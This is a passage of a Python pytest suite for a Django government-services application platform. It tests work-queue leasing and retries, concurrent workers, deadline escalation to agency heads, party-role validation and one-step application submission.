    def killed(item_id: int) -> bool:
        raise KeyboardInterrupt  # the process dies while working on its first item

    monkeypatch.setattr(services, "_process_item", killed)
    with pytest.raises(KeyboardInterrupt):
        services.work_once()
    attempts = sorted(WorkItem.objects.values_list("attempts", flat=True))
    assert attempts == [0, 0, 1]


def test_an_item_claimed_twice_is_processed_once(world: World, clock: Clock) -> None:
    application = submitted(world)
    [(first, _attempt)] = services._claim(10, clock.now)
    clock.later(seconds=services.LEASE.total_seconds() + 1)
    [(second, _attempt2)] = services._claim(10, clock.now)  # the first worker is slow, not dead
    assert first == second
    assert services._process_item(second) is True
    assert services._process_item(first) is False
    assert len(history(application)) == 4
    assert len(decisions()) == 1
    assert population(world.applicant.iin).number == 2


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_workers_running_at_once_decide_each_application_once(world: World, clock: Clock) -> None:
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL: concurrent writers and row locks")
    # The spouse's own record does not name them as spouse: each is rejected, independently.
    applications = [submitted(world, world.spouse) for _ in range(6)]
    start = threading.Barrier(3)
    claims: list[list[tuple[int, int]]] = []
    handled: list[int] = []

    def claim() -> None:
        try:
            start.wait()
            claims.append(services._claim(50, clock.now))
        finally:
            connection.close()

    threads = [threading.Thread(target=claim) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    claimed = [item for batch in claims for item, _attempts in batch]
    assert sorted(claimed) == sorted(WorkItem.objects.values_list("pk", flat=True))

    # Every lease runs out at once: three workers take the same items again, concurrently.
    clock.later(seconds=services.LEASE.total_seconds())
    start = threading.Barrier(3)

    def work() -> None:
        try:
            start.wait()
            handled.append(services.work_once())
        finally:
            connection.close()

    threads = [threading.Thread(target=work) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(handled) == 6
    assert WorkItem.objects.filter(done_at__isnull=True).count() == 0
    for application in applications:
        application.refresh_from_db()
        assert application.status == "rejected"
        assert len(history(application)) == 4  # created, submit, complete, reject
    assert [entry["decision"] for entry in decisions()] == ["rejected"] * 6


def test_a_failing_item_keeps_its_error_and_is_tried_again(
    world: World, clock: Clock, monkeypatch: pytest.MonkeyPatch
) -> None:

    application = submitted(world)
    decide = services._decide_automatically
    calls: list[int] = []

    def flaky(*args: Any, **kwargs: Any) -> None:
        calls.append(1)
        if len(calls) == 1:
            raise RuntimeError("register unavailable")
        decide(*args, **kwargs)

    monkeypatch.setattr(services, "_decide_automatically", flaky)
    assert services.work_once() == 1
    item = WorkItem.objects.get(application=application)
    assert "register unavailable" in item.last_error
    assert item.done_at is None
    application.refresh_from_db()
    assert application.step == "registration"
    clock.later(seconds=services.LEASE.total_seconds())
    assert services.work_once() == 1
    item.refresh_from_db()
    application.refresh_from_db()
    assert (item.last_error, item.attempts, application.status) == ("", 2, "approved")


def test_an_item_is_given_up_after_its_attempts(world: World, clock: Clock) -> None:
    application = submitted(world)
    WorkItem.objects.filter(application=application).update(attempts=services.MAX_ATTEMPTS)
    assert services.work_once() == 0
    application.refresh_from_db()
    assert application.step == "registration"


# --- deadlines -------------------------------------------------------------------------------


def test_heads_are_told_once_per_deadline(world: World, clock: Clock) -> None:
    application = at_review(world)
    second_head = factories.member(world.justice, Role.HEAD, username="second-head")
    assert services.deadlines_escalate(today=D(2024, 3, 27)) == services.EscalationReport(0, 0)
    assert services.deadlines_escalate(today=D(2024, 3, 28)) == services.EscalationReport(1, 2)
    for head in (world.head, second_head):
        [message] = messages(head, "application.step_overdue")
        assert message.link == f"/backoffice/cases/{application.number}/"
        assert "27.03.2024" in message.body.get("en")
        assert "Current step: Review." in message.body.get("en")
    assert messages(world.other_head, "application.step_overdue") == []
    assert messages(world.reviewer, "application.step_overdue") == []
    assert services.deadlines_escalate(today=D(2024, 3, 29)) == services.EscalationReport(0, 0)
    assert [a for a, *_rest in history(application)].count("escalated") == 1
    # The deadline moves after a request for information: the new one is escalated in turn.
    clock.on(D(2024, 3, 28))
    services.case_act(
        application=application, official=world.reviewer, action="request_info", note="Why?"
    )
    assert services.deadlines_escalate(today=D(2024, 4, 1)) == services.EscalationReport(0, 0)
    clock.on(D(2024, 3, 29))
    services.application_answer_info(
        application=application, applicant=world.applicant, answer="Because"
    )
    application.refresh_from_db()
    assert application.deadline == D(2024, 3, 28)
    assert services.deadlines_escalate(today=D(2024, 4, 1)) == services.EscalationReport(1, 2)
    assert len(messages(world.head, "application.step_overdue")) == 2


def test_closed_cases_are_not_escalated(world: World, clock: Clock) -> None:
    application = at_review(world)
    services.application_withdraw(application=application, applicant=world.applicant)
    assert services.deadlines_escalate(today=D(2024, 5, 1)) == services.EscalationReport(0, 0)
    assert messages(world.head, "application.step_overdue") == []


def test_one_person_cannot_hold_two_party_roles(world: World, clock: Clock) -> None:
    form = copy.deepcopy(services_fixture.SALE_FORM)
    form["schema"]["properties"]["guarantor_iin"] = {"type": "string", "pattern": "^[0-9]{12}$"}
    form["schema"]["required"].append("guarantor_iin")
    form["ui"]["steps"][1]["fields"].append("guarantor_iin")
    form["ui"]["labels"]["guarantor_iin"] = services_fixture.label("Guarantor")
    process = copy.deepcopy(services_fixture.SALE_PROCESS)
    process["parties"].append(
        {"role": "guarantor", "iin_field": "guarantor_iin", "label": services_fixture.label("G")}
    )
    factories.published_service(
        agency=world.justice,
        code="guaranteed-sale",
        form=form,
        process=process,
        rules=services_fixture.SALE_RULES,
    )
    draft = services.application_start(applicant=world.applicant, service_code="guaranteed-sale")
    services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"cadastral_number": services_fixture.CADASTRAL},
        step=0,
    )
    services.application_save(
        application=draft,
        applicant=world.applicant,
        values={"buyer_iin": world.buyer.iin, "price": 1000, "guarantor_iin": world.buyer.iin},
        step=1,
    )
    with pytest.raises(ValidationError) as info:
        services.application_submit(application=draft, applicant=world.applicant)
    assert (info.value.code, info.value.field) == ("party_repeated", "guarantor_iin")
    draft.refresh_from_db()
    assert draft.status == "draft"
    assert not draft.parties.exists()


# --- one-step application --------------------------------------------------------------------


NAME_CHANGE_ANSWERS: dict[str, Any] = {
    "new_last_name": "Сейітова-Омарова",
    "reason": "marriage",
    "confirm": True,
}


def test_applying_in_one_step_leaves_what_the_steps_leave(world: World, clock: Clock) -> None:
    stepwise = submitted(world, spouse_iin=world.spouse.iin)
    at_once, written = services.application_apply(
        applicant=world.applicant,
        service_code="surname-change",
        values={**NAME_CHANGE_ANSWERS, "spouse_iin": world.spouse.iin},
        idempotency_key="one-step-1",
    )
    # The history it answers with is the history stored.
    assert [(e.pk, e.action, e.status) for e in written] == [
        (e.pk, e.action, e.status)
        for e in CaseEvent.objects.filter(application=at_once).order_by("id")
    ]
    at_once.refresh_from_db()
    stepwise.refresh_from_db()
    same = ("status", "step", "deadline", "answers", "prefilled", "form_step", "submitted_at")
    assert {f: getattr(at_once, f) for f in same} == {f: getattr(stepwise, f) for f in same}
    assert at_once.status == "active" and at_once.idempotency_key == "one-step-1"
    assert history(at_once) == history(stepwise)
    assert [a for a, *_ in history(at_once)] == ["created", "submit"]
    assert WorkItem.objects.filter(application=at_once, done_at__isnull=True).count() == 1
    assert len(messages(world.applicant, "application.submitted")) == 2
    # The prefill read is recorded for this application, as it is for a draft.
    purposes = AccessRecord.objects.filter(purpose=f"application {at_once.number}")
    assert purposes.count() == 1


def test_applying_in_one_step_with_a_wrong_answer_writes_nothing(
    world: World, clock: Clock
) -> None:
    reads = AccessRecord.objects.count()
    with pytest.raises(ValidationError) as caught:
        services.application_apply(
            applicant=world.applicant,
            service_code="surname-change",
            values={**NAME_CHANGE_ANSWERS, "reason": "boredom", "forged": 1},
        )
    problems = {p["field"] for p in caught.value.details["problems"]}
    assert problems == {"reason", "forged"}
    assert not Application.objects.exists()
    assert not CaseEvent.objects.exists() and not WorkItem.objects.exists()
    assert AccessRecord.objects.count() == reads
    assert not messages(world.applicant, "application.submitted")


def test_applying_in_one_step_asks_the_other_party(world: World, clock: Clock) -> None:
    application, _written = services.application_apply(
        applicant=world.applicant,
        service_code="property-sale",
        values={"cadastral_number": CADASTRAL, "buyer_iin": world.buyer.iin, "price": "25 000"},
    )
    assert application.status == "awaiting_parties"
    assert history(application) == [
        ("created", "draft", "", ""),
        ("submit", "awaiting_parties", "", ""),
    ]
    assert list(Party.objects.filter(application=application).values_list("iin", flat=True)) == [
        world.buyer.iin
    ]
    assert len(messages(world.buyer, "party.confirmation_requested")) == 1


def test_applying_in_one_step_refuses_the_applicant_as_the_other_party(
    world: World, clock: Clock
) -> None:
    with pytest.raises(ValidationError) as caught:
        services.application_apply(
            applicant=world.applicant,
            service_code="property-sale",
            values={"cadastral_number": CADASTRAL, "buyer_iin": world.applicant.iin, "price": 5},
        )
    assert caught.value.code == "party_is_applicant"
    assert not Application.objects.exists() and not Party.objects.exists()


def test_which_version_is_current_is_read_every_time(world: World) -> None:
    first = services.service_version_for_applying("surname-change")
    assert services.service_version_for_applying("surname-change") is first  # kept in memory
    service = first.service
    Service.objects.filter(pk=service.pk).update(current_version=None)
    with pytest.raises(NotFound):
        services.service_version_for_applying("surname-change")
    Service.objects.filter(pk=service.pk).update(current_version=first)
    assert services.service_version_for_applying("surname-change").pk == first.pk
